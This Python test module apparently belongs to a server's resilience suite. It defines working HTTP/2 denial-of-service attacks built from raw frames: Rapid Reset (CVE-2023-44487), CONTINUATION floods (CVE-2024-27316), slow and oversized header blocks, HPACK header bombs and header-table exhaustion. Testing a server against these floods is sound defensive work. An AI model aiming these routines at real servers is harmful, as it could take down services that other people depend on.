"""Attacks by header frames."""

from collections.abc import Callable

from tests.attack.attack import GET_META_POLICY, UPLOAD, Aim, Connected, Held
from tests.support.faults.http2_frames import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES,
    HEADERS,
    RST_STREAM,
    RawPeer,
    field,
    frame,
    integer,
    request_block,
)

_CANCEL = (8).to_bytes(4, "big")


class HeaderOnlyStreams(Connected):
    """Begins uploads, and sends nothing else."""

    about = "uploads of which only the headers come"

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        block = request_block(UPLOAD)
        return lambda: peer.send(*(frame(HEADERS, peer.next_stream(), block, END_HEADERS) for _ in range(100)))


class RapidReset(Connected):
    """Begins calls and cancels them in the same breath (CVE-2023-44487)."""

    about = "calls that are reset as soon as they have begun"
    computes = True

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        block = request_block(GET_META_POLICY)

        def reset() -> bytes:
            stream = peer.next_stream()
            return frame(HEADERS, stream, block, END_HEADERS) + frame(RST_STREAM, stream, _CANCEL)

        return lambda: peer.send(*(reset() for _ in range(100)))


class SlowHeaders(Held):
    """Sends a header block a byte at a time, without an end."""

    about = "header blocks that arrive a byte at a time and never end"
    count = 400

    def open(self, aim: Aim) -> RawPeer:
        peer = aim.connect()
        peer.send(frame(HEADERS, peer.next_stream(), request_block(GET_META_POLICY)))
        return peer

    def go_on(self, peer: RawPeer) -> None:
        peer.send(frame(CONTINUATION, 1, b"\0"))


class ContinuationFlood(Connected):
    """Sends one header block without an end, as fast as it can (CVE-2024-27316)."""

    about = "CONTINUATION frames of 16 KiB without an end"

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        peer.send(frame(HEADERS, peer.next_stream(), request_block(GET_META_POLICY)))
        more = frame(CONTINUATION, 1, field(b"x-filler", b"a" * (FRAME_BYTES - 20)))
        return lambda: peer.send(more)


class HugeHeaders(Connected):
    """Sends calls with header lists far above what a server accepts."""

    about = "calls with header lists of 1 MiB"

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        block = request_block(GET_META_POLICY)
        more = frame(CONTINUATION, 0, field(b"x-filler", b"a" * (FRAME_BYTES - 20)))

        def call() -> None:
            stream = peer.next_stream()
            numbered = more[:5] + stream.to_bytes(4, "big") + more[9:]
            end = frame(CONTINUATION, stream, b"", END_HEADERS)
            peer.send(frame(HEADERS, stream, block, END_STREAM), numbered * 64, end)

        return call


class HeaderBombs(Connected):
    """Names an entry of the header table ten thousand times in one block: each byte becomes 4 KB."""

    about = "header blocks in which each byte stands for a header of 4 KB"
    computes = True

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        block = request_block(GET_META_POLICY, field(b"x-bomb", b"a" * 3900, indexed=True))
        peer.start(block, end=True)
        # The newest entry of the dynamic table has the number 62.
        bomb = request_block(GET_META_POLICY) + integer(62, 7, 0x80) * 10_000
        return lambda: peer.send(*(frame(HEADERS, peer.next_stream(), bomb, END_HEADERS) for _ in range(10)))


class ManyTables(Held):
    """Fills the header table of many connections, each with calls whose headers are as large as is accepted."""

    about = "connections with full header tables, and 7 KB of headers on each of their streams"
    count = 400

    def open(self, aim: Aim) -> RawPeer:
        peer = aim.connect()
        table = field(b"x-table", b"a" * 3900, indexed=True)
        for _ in range(50):
            peer.start(request_block(UPLOAD, table, field(b"x-filler", b"a" * 3000)))
        return peer
